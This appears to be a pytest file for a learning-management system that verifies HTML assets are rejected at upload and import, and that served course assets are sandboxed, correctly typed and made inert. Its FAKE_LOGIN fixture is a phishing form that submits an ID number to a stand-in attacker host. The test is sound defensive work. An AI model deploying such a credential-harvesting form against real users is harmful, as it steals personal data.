"""A trainer cannot host a page on the site's origin: packages with other asset types are
refused everywhere they enter, and every served asset is sandboxed and never sniffed."""

from __future__ import annotations

import io

from sqlalchemy import func, select

from lms.courses.importer import current_version
from lms.courses.models import Course, CourseAsset
from tests.authoring.conftest import owned_course, zip_bytes  # noqa: F401  (fixture)
from tests.conftest import write_course

FAKE_LOGIN = b"<form action='https://evil.example/curi'>NIP <input name=nip></form>"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(16)


def _package_files(tmp_path, slug: str, extra: dict[str, bytes]) -> dict[str, bytes]:
    folder = write_course(tmp_path, slug)
    for name, data in extra.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in folder.rglob("*") if p.is_file()}


def _courses(db) -> int:
    return db.session.scalar(select(func.count()).select_from(Course))


def test_cli_check_and_import_refuse_an_html_asset(runner, db, tmp_path):
    folder = write_course(tmp_path, "kursus-jebakan")
    (folder / "assets").mkdir()
    (folder / "assets" / "masuk.html").write_bytes(FAKE_LOGIN)
    for command in ("check", "import"):
        result = runner.invoke(args=["lms", command, str(folder)])
        assert result.exit_code != 0
        assert "assets/masuk.html:1: jenis aset tidak diizinkan" in result.output
    assert _courses(db) == 0


def test_web_upload_refuses_an_html_asset(client, login, db, make_user, tmp_path):
    files = _package_files(tmp_path, "kursus-jebakan", {"assets/masuk.html": FAKE_LOGIN})
    login(make_user(role="trainer"))
    response = client.post("/pengajar/unggah", content_type="multipart/form-data", data={
        "package": (io.BytesIO(zip_bytes(files, root="kursus-jebakan/")), "kursus-jebakan.zip")})
    assert response.status_code == 422
    assert "assets/masuk.html:1: jenis aset tidak diizinkan" in response.get_data(as_text=True)
    assert _courses(db) == 0


def test_draft_image_upload_checks_the_content(client, login, db, owned_course):
    slug, owner = owned_course()
    login(owner)
    client.post(f"/pengajar/kursus/{slug}/draf")
    response = client.post(f"/pengajar/draf/{slug}/gambar", content_type="multipart/form-data",
                           data={"image": (io.BytesIO(FAKE_LOGIN), "foto.png")},
                           follow_redirects=True)
    assert "Hanya gambar PNG, JPG, GIF atau WebP" in response.get_data(as_text=True)
    assert client.get(f"/pengajar/draf/{slug}/aset/assets/foto.png").status_code == 404


def _import_with(runner, tmp_path, extra: dict[str, bytes]) -> None:
    folder = write_course(tmp_path, "kursus-aset")
    for name, data in extra.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    result = runner.invoke(args=["lms", "import", str(folder)])
    assert result.exit_code == 0, result.output


def test_served_assets_are_sandboxed_and_typed(runner, client, login, make_user, tmp_path):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
    _import_with(runner, tmp_path, {"assets/bagan.png": PNG, "assets/alur.svg": svg,
                                    "assets/panduan.pdf": b"%PDF-1.7\n"})
    login(make_user())
    for name, content_type in (("bagan.png", "image/png"), ("alur.svg", "image/svg+xml"),
                               ("panduan.pdf", "application/pdf")):
        response = client.get(f"/kursus/kursus-aset/v1/assets/{name}")
        assert response.status_code == 200
        assert response.headers["Content-Type"] == content_type
        assert response.headers["Content-Security-Policy"].startswith("sandbox;")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    # Browsers will not show a sandboxed PDF inline, so it is a download.
    pdf = client.get("/kursus/kursus-aset/v1/assets/panduan.pdf")
    assert pdf.headers["Content-Disposition"] == 'attachment; filename="panduan.pdf"'
    assert "Content-Disposition" not in client.get("/kursus/kursus-aset/v1/assets/bagan.png").headers


def test_a_page_stored_before_the_allow_list_is_served_as_an_inert_download(
        runner, client, login, db, make_user, tmp_path):
    _import_with(runner, tmp_path, {"assets/bagan.png": PNG})
    version = current_version(db.session, db.session.scalar(select(Course)))
    # As an import from before the allow-list left it: an HTML page stored as text/html.
    db.session.add(CourseAsset(version_id=version.id, path="assets/masuk.html",
                               content_type="text/html", data=FAKE_LOGIN))
    db.session.commit()
    login(make_user())
    response = client.get("/kursus/kursus-aset/v1/assets/masuk.html")
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["Content-Security-Policy"].startswith("sandbox;")
